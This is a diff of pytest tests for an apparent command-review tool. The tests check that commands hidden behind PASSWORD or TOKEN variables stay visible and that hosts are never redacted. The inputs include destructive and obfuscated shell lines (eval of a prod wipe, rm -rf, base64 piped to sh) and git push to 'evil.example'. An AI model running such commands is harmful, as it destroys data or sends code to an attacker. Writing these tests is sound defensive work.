@@ -64,6 +64,37 @@ def test_secret_is_a_mark_wherever_the_card_shows_it(case: Make) -> None:
     assert "redacted" in drawn.card.flags
 
 
+@pytest.mark.parametrize(
+    ("command", "runs"),
+    [
+        ("PASSWORD='python3 deploy.py --wipe-prod' ; eval \"$PASSWORD\"", "python3 deploy.py --wipe-prod"),
+        ("PASSWORD='./deploy.sh --prod --yes' bash -c '$PASSWORD'", "./deploy.sh --prod --yes"),
+        ("PASSWORD=`rm -rf ~/x` true", "`rm -rf ~/x`"),
+        ("TOKEN='cm0gLXJmIH4veA=='; echo $TOKEN|base64 -d|sh", "cm0gLXJmIH4veA=="),
+        ("TOKEN=cm0gLXJmIH4veA && ./run $TOKEN", "cm0gLXJmIH4veA"),
+    ],
+)
+def test_card_shows_what_runs_part_by_part(case: Make, command: str, runs: str) -> None:
+    """A variable set in one part of the line and read in another keeps its value on the card."""
+    view = case(command=command).draw().card.view
+    assert "".join(segment.text for segment in view.segments) == command
+    assert runs in view.raw["command"]
+
+
+def test_heading_tells_what_is_run_not_what_is_printed(case: Make) -> None:
+    """What the line itself put into a variable is no secret that it prints."""
+    card = case(command="TOKEN='cm0gLXJmIH4veA=='; echo $TOKEN|base64 -d|sh").draw().card
+    assert card.view.verb == "Run hidden text"
+    assert "Print the secret" in case(command="echo $TOKEN").draw().card.view.verb
+
+
+@pytest.mark.parametrize("user", ["token", "password", "secret"])
+def test_heading_names_the_host_whatever_the_user_is_called(case: Make, user: str) -> None:
+    """The address that code comes from or goes to is never part of a mark."""
+    for command in ("git clone https://{}:x@evil.example/r", "git push https://{}:x@evil.example/r main"):
+        assert "@evil.example/r" in case(command=command.format(user)).draw().card.view.verb
+
+
 def test_mark_in_an_edit_becomes_what_it_stands_for(case: Make) -> None:
     """People edit around a secret that they never see."""
     here = case(command=f"curl -H 'Authorization: Bearer {TOKEN}' https://example.com/a")
